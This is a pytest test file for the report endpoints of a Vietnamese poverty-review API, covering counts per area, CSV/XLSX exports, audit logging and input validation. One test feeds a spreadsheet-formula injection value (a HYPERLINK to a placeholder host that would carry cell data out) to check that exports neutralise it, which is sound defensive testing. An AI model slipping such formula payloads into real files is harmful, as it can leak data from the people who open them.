"""Reports (GET /api/v1/reports/...): what they count, per area, in JSON, CSV and XLSX, within scope.

The households are pushed by phones and reviewed by a supervisor through the HTTP API; every
figure asserted below is worked out by hand from the table in ``commune_x``.
"""

from __future__ import annotations

import csv
import io
import uuid

import openpyxl
import pytest
from support import COMMUNE_X, COMMUNE_Y, PROVINCE_HCM, PROVINCE_HN, VILLAGE_A, VILLAGE_B, VILLAGE_C, VILLAGE_D, problem
from support.households import household_answers, submission

PUSH = "/api/v1/sync/push"
# Patches of the 2022.1 worked cases (forms/bundled/cases): rural, 4 members.
POOR = {"water_source": "surface", "latrine_type": "over_water", "floor_area": 30, "income_agriculture": 72000000}
NEAR_POOR = {"water_source": "surface", "latrine_type": "over_water", "income_agriculture": 72000000}
AVERAGE = {"income_agriculture": 100000000}  # 2,083,333 a person a month
NOT_POOR: dict = {}
# The 2027.1 form (review year 2027): its lines are higher.
POOR_2027 = {"water_source": "surface", "latrine_type": "over_water", "waste_disposal": "dumped",
             "income_agriculture": 105600000}
NEAR_POOR_2027 = {"water_source": "surface", "latrine_type": "over_water", "income_agriculture": 105600000}
CCCD = "001086012345"  # the base household's head's ID number: never in a report


def visit(day: int, hour: int = 9) -> dict:
    return {"started_at": f"2026-10-{day:02d}T{hour:02d}:00:00+07:00",
            "finished_at": f"2026-10-{day:02d}T{hour:02d}:30:00+07:00"}


class Season:
    """Pushes visits as one phone (areas: commune X and village C) and reviews them as a supervisor."""

    def __init__(self, client, accounts):
        self.client = client
        self.phone = accounts.headers("enumerator", [COMMUNE_X, VILLAGE_C, VILLAGE_D], device_id="report-phone")
        self.reviewer = accounts.headers("supervisor", [COMMUNE_X, COMMUNE_Y, VILLAGE_D])
        self.households: dict[str, str] = {}

    def visit(self, name: str, area: str, patch: dict, *, day: int = 2, hour: int = 9, state: str | None = "approve",
              year: str = "2022", **answers) -> str:
        household = self.households.setdefault(name, str(uuid.uuid4()))
        item = submission(area, year=year, household_id=household,
                          answers=household_answers(year, **{"household_code": f"HH-{name}",
                                                             "head_name": f"Chủ hộ {name}", **patch, **answers}),
                          **visit(day, hour))
        response = self.client.post(PUSH, json={"device_id": "report-phone", "submissions": [item]},
                                    headers=self.phone)
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.get_json()["results"][0]["status"] == "accepted", response.get_json()
        if state is not None:
            decision = {"action": state} if state == "approve" else {"action": state, "comment": "Chưa đúng"}
            reviewed = self.client.post(f"/api/v1/submissions/{item['id']}/review", json=decision,
                                        headers={**self.reviewer, "If-Match": "*"})
            assert reviewed.status_code == 200, reviewed.get_json()
        return item["id"]


@pytest.fixture()
def season(client, accounts) -> Season:
    return Season(client, accounts)


@pytest.fixture()
def commune_x(season):
    """Review year 2026 (form 2022.1). Counted officially / in the preview:

    | household | where | visits (review) | official | preview |
    |---|---|---|---|---|
    | h1 | A | poor (approved) | poor | poor |
    | h2 | A | near-poor, Khơ-me (approved) | near-poor | near-poor |
    | h3 | A | average (approved) | average | average |
    | h4 | A | not poor (approved) | not poor | not poor |
    | h5 | A | poor (received) | - | poor |
    | h6 | A | poor (approved) on the 2nd, near-poor (approved) on the 5th | near-poor | near-poor |
    | h7 | A | poor (approved) on the 2nd, near-poor (received) on the 5th | poor | near-poor |
    | h8 | A | near-poor (rejected) | - | near-poor |
    | h9 | B | poor, Tày (approved) | poor | poor |
    | h10 | X itself | average (approved) | average | average |
    | h11 | C (commune Y) | poor (approved) | | |
    | h12 | D (province 79) | poor (approved) | | |
    | h13 | A on the 2nd (poor, approved), B on the 6th (near-poor, approved): moved | near-poor in B | same |
    """
    s = season
    s.visit("h1", VILLAGE_A, POOR)
    s.visit("h2", VILLAGE_A, NEAR_POOR, ethnicity="05")
    s.visit("h3", VILLAGE_A, AVERAGE)
    s.visit("h4", VILLAGE_A, NOT_POOR)
    s.visit("h5", VILLAGE_A, POOR, state=None)
    s.visit("h6", VILLAGE_A, POOR, day=2)
    s.visit("h6", VILLAGE_A, NEAR_POOR, day=5)
    s.visit("h7", VILLAGE_A, POOR, day=2)
    s.visit("h7", VILLAGE_A, NEAR_POOR, day=5, state=None)
    s.visit("h8", VILLAGE_A, NEAR_POOR, state="reject")
    s.visit("h9", VILLAGE_B, POOR, ethnicity="02")
    s.visit("h10", COMMUNE_X, AVERAGE)
    s.visit("h11", VILLAGE_C, POOR)
    s.visit("h12", VILLAGE_D, POOR)
    s.visit("h13", VILLAGE_A, POOR, day=2)
    s.visit("h13", VILLAGE_B, NEAR_POOR, day=6)
    return s


def get(client, headers, report: str, **params):
    return client.get(f"/api/v1/reports/{report}", headers=headers, query_string=params)


def report_json(client, headers, report: str, **params) -> dict:
    response = get(client, headers, report, **params)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json"
    return response.get_json()


def by_area(body: dict) -> dict:
    return {row["area"]: row for row in body["rows"]}


def counts(row: dict, *keys: str) -> tuple:
    return tuple(row[k] for k in keys)


CLASS_KEYS = ("households", "poor", "near_poor", "average", "not_poor", "unclassified")


@pytest.fixture()
def supervisor_x(accounts):
    return accounts.headers("supervisor", [COMMUNE_X])


# --- poverty ------------------------------------------------------------------------------------

def test_poverty_counts_the_latest_approved_visit_per_household(client, commune_x, supervisor_x):
    body = report_json(client, supervisor_x, "poverty", year=2026)  # the supervisor's commune by default
    assert body["counts"] == "approved" and body["official"] is True
    assert "ĐÃ DUYỆT" in body["counting"] and "2026" in body["counting"]
    assert body["area"] == {"code": COMMUNE_X, "name": "Phường Ba Đình", "level": "commune"}
    assert body["title"].startswith("TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO")
    rows = by_area(body)
    assert list(rows) == [VILLAGE_A, VILLAGE_B, COMMUNE_X]  # villages, then the households in no village
    assert counts(rows[VILLAGE_A], *CLASS_KEYS) == (6, 2, 2, 1, 1, 0)
    assert counts(rows[VILLAGE_B], *CLASS_KEYS) == (2, 1, 1, 0, 0, 0)
    assert rows[VILLAGE_A]["name"] == "Thôn A"
    assert rows[COMMUNE_X]["name"] == "Phường Ba Đình (hộ chưa gán thôn, tổ)"
    assert counts(rows[COMMUNE_X], *CLASS_KEYS) == (1, 0, 0, 1, 0, 0)
    assert counts(body["total"], *CLASS_KEYS) == (9, 3, 3, 2, 1, 0)
    assert body["total"]["name"] == "Tổng cộng"
    assert (rows[VILLAGE_A]["poor_rate"], rows[VILLAGE_A]["near_poor_rate"], rows[VILLAGE_A]["average_rate"]) == (
        33.33, 33.33, 16.67)
    assert body["total"]["poor_rate"] == 33.33 and body["total"]["average_rate"] == 22.22
    assert [c["key"] for c in body["columns"]][:4] == ["area", "name", "households", "poor"]
    assert dict((c["key"], c["label"]) for c in body["columns"])["poor_rate"] == "Tỷ lệ hộ nghèo (% số hộ được rà soát)"


def test_the_preview_counts_the_latest_visit_whatever_its_state(client, commune_x, supervisor_x):
    body = report_json(client, supervisor_x, "poverty", year=2026, include="unreviewed")
    assert body["counts"] == "unreviewed" and body["official"] is False
    assert body["counting"].startswith("XEM TRƯỚC, CHƯA PHẢI SỐ LIỆU CHÍNH THỨC")
    rows = by_area(body)
    # h5 (received) and h8 (rejected) join; h7 counts by its later, unreviewed visit.
    assert counts(rows[VILLAGE_A], *CLASS_KEYS) == (8, 2, 4, 1, 1, 0)
    assert counts(body["total"], *CLASS_KEYS) == (11, 3, 5, 2, 1, 0)


def test_a_village_report_has_one_row_and_another_year_is_empty(client, commune_x, supervisor_x):
    body = report_json(client, supervisor_x, "poverty", year=2026, area=VILLAGE_B)
    assert [(r["area"], r["households"], r["poor"], r["near_poor"]) for r in body["rows"]] == [(VILLAGE_B, 2, 1, 1)]
    empty = report_json(client, supervisor_x, "poverty", year=2025)
    assert body["total"]["households"] == 2 and empty["total"]["households"] == 0
    assert [r["poor_rate"] for r in empty["rows"]] == [None, None]  # no households: no rate, not 0 %


def test_province_rows_are_communes(client, commune_x, accounts):
    provincial = accounts.headers("admin", [PROVINCE_HN])
    body = report_json(client, provincial, "poverty", year=2026, lang="en")
    assert body["area"]["code"] == PROVINCE_HN and body["area_label"].endswith(f"({PROVINCE_HN})")
    rows = by_area(body)
    assert all(code.count("-") == 1 for code in rows)  # communes only
    assert counts(rows[COMMUNE_X], *CLASS_KEYS) == (9, 3, 3, 2, 1, 0)
    assert counts(rows[COMMUNE_Y], *CLASS_KEYS) == (1, 1, 0, 0, 0, 0)
    assert counts(body["total"], *CLASS_KEYS) == (10, 4, 3, 2, 1, 0)
    assert body["total"]["name"] == "Total" and body["counting"].startswith("Official figures")
    national = report_json(client, accounts.headers("admin", []), "poverty", year=2026)
    assert national["area"] is None and national["area_label"] == "Toàn quốc"
    assert counts(by_area(national)[PROVINCE_HN], "households", "poor") == (10, 4)
    assert counts(by_area(national)[PROVINCE_HCM], "households", "poor") == (1, 1)
    assert len(national["rows"]) == 34


# --- deprivations, ethnicity ----------------------------------------------------------------------

def test_deprivations_per_indicator_for_poor_and_near_poor(client, commune_x, supervisor_x):
    body = report_json(client, supervisor_x, "deprivations", year=2026)
    assert body["households"] == {"poor": 3, "near_poor": 3}
    rows = {r["key"]: r for r in body["rows"]}
    assert list(rows)[:3] == ["employment", "dependents", "nutrition"] and len(rows) == 12
    assert rows["water"]["indicator"] == "Nguồn nước sinh hoạt"
    assert rows["water"]["dimension"] == "Nước sinh hoạt và vệ sinh"
    # Poor (h1, h7, h9): floor area, water, latrine; near-poor (h2, h6, h13): water, latrine.
    assert counts(rows["housing_area"], "poor_deprived", "poor_deprived_rate", "near_poor_deprived",
                  "near_poor_deprived_rate") == (3, 100.0, 0, 0.0)
    assert counts(rows["latrine"], "poor_deprived", "near_poor_deprived") == (3, 3)
    assert counts(rows["health_insurance"], "poor_deprived", "near_poor_deprived") == (0, 0)
    assert body["total"]["poor_deprived"] == 3 and body["total"]["indicator"] == "Tổng số hộ"
    preview = report_json(client, supervisor_x, "deprivations", year=2026, include="unreviewed")
    assert preview["households"] == {"poor": 3, "near_poor": 5}


def test_ethnic_minority_households(client, commune_x, supervisor_x):
    body = report_json(client, supervisor_x, "ethnicity", year=2026)
    rows = by_area(body)
    # h2 (Khơ-me, near-poor) in A, h9 (Tày, poor) in B; Kinh is 01.
    assert counts(rows[VILLAGE_A], "households", "minority", "poor", "minority_poor", "near_poor",
                  "minority_near_poor", "minority_near_poor_share") == (6, 1, 2, 0, 2, 1, 50.0)
    assert counts(rows[VILLAGE_B], "households", "minority", "minority_poor", "minority_poor_rate") == (2, 1, 1, 100.0)
    assert counts(body["total"], "households", "minority", "minority_rate", "ethnicity_unknown", "minority_poor",
                  "minority_poor_share") == (9, 2, 22.22, 0, 1, 33.33)


# --- change over the year -------------------------------------------------------------------------

def test_change_over_the_year(client, season, supervisor_x):
    s = season
    for name, before, after in (("k1", POOR, NOT_POOR), ("k2", POOR, POOR_2027), ("k3", NEAR_POOR, POOR_2027),
                                ("k4", None, POOR_2027), ("k5", POOR, None), ("k6", NEAR_POOR, NEAR_POOR_2027),
                                ("k7", POOR, "unreviewed")):
        if before is not None:
            s.visit(name, VILLAGE_A, before, day=3)
        if after == "unreviewed":
            s.visit(name, VILLAGE_A, NOT_POOR, year="2027", day=20, state=None)
        elif after is not None:
            s.visit(name, VILLAGE_A, after, year="2027", day=20)
    body = report_json(client, supervisor_x, "changes", year=2027)
    assert body["previous_year"] == 2026 and "2027" in body["title"] and "2026" in body["title"]
    row = by_area(body)[VILLAGE_A]
    poor = counts(row, "poor_start", "poor_left", "poor_not_reviewed", "poor_entered", "poor_entered_new", "poor_end")
    near = counts(row, "near_poor_start", "near_poor_left", "near_poor_not_reviewed", "near_poor_entered",
                  "near_poor_entered_new", "near_poor_end")
    # k1 left; k5 and k7 (its 2027 visit is not approved) not counted in 2027; k3 and k4 (new) entered.
    assert poor == (4, 1, 2, 2, 1, 3)
    assert near == (2, 1, 0, 0, 0, 1)
    for cls in ("poor", "near_poor"):
        assert row[f"{cls}_end"] == (row[f"{cls}_start"] - row[f"{cls}_left"] - row[f"{cls}_not_reviewed"]
                                     + row[f"{cls}_entered"])
    assert counts(body["total"], "poor_start", "poor_end") == (4, 3)
    preview = by_area(report_json(client, supervisor_x, "changes", year=2027, include="unreviewed"))[VILLAGE_A]
    assert counts(preview, "poor_left", "poor_not_reviewed") == (2, 1)  # k7 left poverty in the preview


# --- the register ---------------------------------------------------------------------------------

def test_register_one_row_per_household_without_id_numbers(client, commune_x, supervisor_x):
    response = get(client, supervisor_x, "register", year=2026)
    assert response.status_code == 200 and response.mimetype == "application/json"
    text = response.get_data(as_text=True)
    assert CCCD not in text and "cccd" not in text.lower()
    body = response.get_json()
    assert body["counts"] == "approved" and "ĐÃ DUYỆT" in body["counting"]
    assert [r["household_code"] for r in body["rows"]] == ["HH-h10", "HH-h1", "HH-h2", "HH-h3", "HH-h4", "HH-h6",
                                                           "HH-h7", "HH-h13", "HH-h9"]  # by area, then code
    assert [r["number"] for r in body["rows"]] == list(range(1, 10))
    h1 = body["rows"][1]
    assert {k: h1[k] for k in ("head_name", "village", "village_name", "member_count", "classification",
                               "deprivation_count", "ethnicity", "ethnic_minority", "review_state",
                               "visit_date")} == {
        "head_name": "Chủ hộ h1", "village": VILLAGE_A, "village_name": "Thôn A", "member_count": 4,
        "classification": "Hộ nghèo", "deprivation_count": 3, "ethnicity": "Kinh (Việt)", "ethnic_minority": "Không",
        "review_state": "Đã duyệt", "visit_date": "02/10/2026"}
    assert {k: v for k, v in h1.items() if k.startswith("deprived_") and v} == {
        "deprived_housing_area": 1, "deprived_water": 1, "deprived_latrine": 1}
    assert body["rows"][-1]["ethnic_minority"] == "Có"
    poor = report_json(client, supervisor_x, "register", year=2026, classification="poor")
    assert [r["household_code"] for r in poor["rows"]] == ["HH-h1", "HH-h7", "HH-h9"]
    assert poor["classification"] == "poor"


# --- files --------------------------------------------------------------------------------------

def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_data()
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_says_first_what_it_counts(client, commune_x, supervisor_x):
    response = get(client, supervisor_x, "poverty", year=2026, format="csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="rasoat-poverty-{COMMUNE_X}-2026.csv"'
    lines = _csv(response)
    assert lines[0][0].startswith("Số liệu chính thức") and "ĐÃ DUYỆT" in lines[0][0]
    assert lines[1][0].startswith("TỔNG HỢP KẾT QUẢ RÀ SOÁT")
    header = lines.index(["Mã địa bàn", "Tên địa bàn", "Tổng số hộ được rà soát", "Số hộ nghèo",
                          "Tỷ lệ hộ nghèo (% số hộ được rà soát)", "Số hộ cận nghèo",
                          "Tỷ lệ hộ cận nghèo (% số hộ được rà soát)", "Số hộ có mức sống trung bình",
                          "Tỷ lệ hộ có mức sống trung bình (% số hộ được rà soát)",
                          "Số hộ không thuộc diện nghèo, cận nghèo, mức sống trung bình",
                          "Số hộ chưa xác định được phân loại"])
    assert lines[header + 1][:4] == [VILLAGE_A, "Thôn A", "6", "2"]
    assert lines[-1][:6] == ["", "Tổng cộng", "9", "3", "33.33", "3"]
    preview = _csv(get(client, supervisor_x, "poverty", year=2026, format="csv", include="unreviewed"))
    assert preview[0][0].startswith("XEM TRƯỚC")


def test_xlsx_says_first_what_it_counts(client, commune_x, supervisor_x):
    response = get(client, supervisor_x, "register", year=2026, format="xlsx", include="unreviewed")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith('-2026-preview.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Danh sách hộ"]
    rows = list(book["Danh sách hộ"].iter_rows(values_only=True))
    assert rows[0][0].startswith("XEM TRƯỚC")
    header = next(i for i, r in enumerate(rows) if r[0] == "STT")
    assert rows[header][1:3] == ("Mã hộ", "Họ và tên chủ hộ")
    assert len(rows) - header - 1 == 11  # the preview's households, no total row in a register
    assert not any(CCCD in str(v) for r in rows for v in r if v is not None)


def test_formula_like_names_are_neutralised_in_files(client, season, supervisor_x):
    season.visit("evil", VILLAGE_A, POOR, head_name='=HYPERLINK("http://example.invalid/?"&A1,"bấm")',
                 household_code="+84-1")
    lines = _csv(get(client, supervisor_x, "register", year=2026, format="csv"))
    row = next(line for line in lines if len(line) > 2 and line[1] == "'+84-1")
    assert row[2] == '\'=HYPERLINK("http://example.invalid/?"&A1,"bấm")'
    book = openpyxl.load_workbook(io.BytesIO(get(client, supervisor_x, "register", year=2026,
                                                 format="xlsx").get_data()))
    cells = [c for r in book.active.iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells)
    assert "'+84-1" in [c.value for c in cells]


def test_file_downloads_and_registers_are_audited(client, commune_x, supervisor_x, accounts):
    get(client, supervisor_x, "poverty", year=2026)  # a JSON summary: not audited
    get(client, supervisor_x, "ethnicity", year=2026, format="xlsx", include="unreviewed")
    get(client, supervisor_x, "register", year=2026, area=VILLAGE_A)
    admin = accounts.headers("admin", [])
    entries = client.get("/api/v1/audit", headers=admin, query_string={"action": "report.ethnicity"}).get_json()
    [entry] = entries["items"]
    assert entry["detail"] == {"format": "xlsx", "year": 2026, "include": "unreviewed", "language": "vi"}
    assert entry["actor_username"].startswith("supervisor-")
    [register] = client.get("/api/v1/audit", headers=admin, query_string={"action": "report.register"}).get_json()[
        "items"]
    assert register["area_code"] == VILLAGE_A and register["detail"]["format"] == "json"
    assert client.get("/api/v1/audit", headers=admin, query_string={"action": "report.poverty"}).get_json()[
        "items"] == []


# --- bad requests -------------------------------------------------------------------------------

@pytest.mark.parametrize("params", [{}, {"year": 1990}, {"year": 2026, "format": "pdf"},
                                    {"year": 2026, "include": "everything"}, {"year": 2026, "lang": "fr"}])
def test_bad_parameters_are_422(client, supervisor_x, params):
    body = problem(get(client, supervisor_x, "poverty", **params), 422, "request.invalid")
    assert body["errors"]


@pytest.mark.parametrize("report", ["poverty", "deprivations", "ethnicity", "changes", "register"])
def test_every_report_answers_an_empty_year(client, supervisor_x, report):
    for fmt in ("json", "csv", "xlsx"):
        with get(client, supervisor_x, report, year=2031, format=fmt) as response:
            assert response.status_code == 200, (fmt, response.get_data(as_text=True)[:300])
            assert response.get_data()
    body = report_json(client, supervisor_x, report, year=2031)
    assert body["report"] == report and body["year"] == 2031 and body["counts"] == "approved"
